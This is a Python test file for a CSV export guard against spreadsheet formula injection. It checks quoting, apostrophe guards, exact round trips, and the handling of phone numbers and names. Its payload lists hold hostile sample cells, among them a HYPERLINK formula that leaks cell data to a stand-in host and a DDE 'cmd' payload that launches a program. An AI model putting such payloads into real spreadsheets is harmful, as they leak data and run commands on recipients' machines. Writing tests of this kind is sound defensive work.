"""Formula neutralisation: no exported cell is evaluated by a spreadsheet, only such cells are
guarded (a phone or a name that merely starts with + or - is not), and the round trip is exact."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from rallyorg.exchange.csv_reading import read_table
from rallyorg.exchange.safe_csv import csv_bytes, needs_guard, neutralise, restore, would_evaluate

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "+12035550123",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\u00a0=1+1",
    "'=1+1",
    "''=1+1",
    "'",
    "''",
    "'plain",
    "=",
    "-",
    "O'Brien",
    "a=b",
    "José = Pepe",
    "",
    "plain",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_no_exported_cell_starts_a_formula_and_reading_back_is_exact() -> None:
    data = csv_bytes(["Payload", "=Header"], [[p, p] for p in PAYLOADS])
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, so Excel shows accents
    text = data.decode("utf-8-sig")
    assert all(line.startswith('"') for line in text.split("\r\n") if line)  # every field quoted
    rows = _cells(data)
    for cell in (c for row in rows for c in row):
        assert not would_evaluate(cell), cell
        assert not cell.startswith(("=", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")), cell
    assert [restore(h) for h in rows[0]] == ["Payload", "=Header"]
    assert [[restore(c) for c in row] for row in rows[1:]] == [[p, p] for p in PAYLOADS]


def test_rallyorgs_own_reader_restores_the_values() -> None:
    data = csv_bytes(["Payload"], [[p] for p in PAYLOADS if p.strip()])
    table = read_table(data)
    assert [restore(r.cells[0]) for r in table.records] == [p for p in PAYLOADS if p.strip()]


def test_the_guard_is_only_added_when_needed() -> None:
    assert neutralise("Ana") == "Ana"
    assert neutralise("=1") == "'=1"
    assert neutralise("'x") == "''x"
    assert restore("'x") == "'x"  # not something we write: left as it is
    assert not needs_guard("(203) 555-0123")


# What Excel or LibreOffice would compute, call, or look up: always guarded.
EVALUATED = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "@SUM(A1:A2)",
    "+1+2",
    "-2+3",
    "+A1",
    "-A1 Group",
    "-Rua1",
    "-SUM(A1)",
    "+cmd|' /C calc'!A0",
    "+12035550123",  # a number: Excel would drop the +
    "+1-203-555-0123",  # no two numbers side by side: Excel subtracts
    "-5",
    "- 2 + 3",
    "-TRUE",
    "+1 call me",
    "-Coletivo (Zero)",
    '-"quoted"',
    "＋1",
    " =1+1",
    "\t-2+3",
]
# Text a spreadsheet keeps as it is: a phone written for people, words, a lone sign.
INERT = [
    "+55 11 91234-5678",
    "+44 20 7946 0958",
    "+1 203-555-0171",
    "+1 (203) 555-0123",
    "-Coletivo Zero",
    "-dash",
    "- item",
    "-Ana María O'Brien",
    "-True Love Church",
    "-",
    "+",
    "(203) 555-0123",
    "O'Brien",
    "a=b",
]


def test_only_what_a_spreadsheet_would_evaluate_is_guarded() -> None:
    for value in EVALUATED:
        assert would_evaluate(value) and neutralise(value) == "'" + value, value
    for value in INERT:
        assert not would_evaluate(value) and neutralise(value) == value, value


def test_files_from_earlier_versions_read_back_without_the_quote() -> None:
    """Earlier versions guarded every leading + and -: their files restore exactly too."""
    assert restore("'+55 11 91234-5678") == "+55 11 91234-5678"
    assert restore("'-Coletivo Zero") == "-Coletivo Zero"
    assert restore("'-") == "-"


@given(st.text())
def test_round_trip_for_any_text(value: str) -> None:
    guarded = neutralise(value)
    assert restore(guarded) == value
    assert not would_evaluate(guarded)
    assert guarded == value or guarded == "'" + value


@given(st.from_regex(r"[=+\-@][0-9A-Za-z()+\-*/&!:$ ]{0,12}", fullmatch=True))
def test_whatever_could_compute_is_guarded(value: str) -> None:
    """A leading sign followed by an operator, a bracket, a reference or a lone number is a
    formula: only phones with numbers side by side, and plain words, go unguarded."""
    if neutralise(value) == value:
        rest = value[1:]
        assert value[0] in "+-"
        assert not any(c in rest for c in "+*/&!:$"), value
        phone_like = all(c in "0123456789 ().-" for c in rest)
        assert phone_like or not any(c.isdigit() or c in "()" for c in rest), value
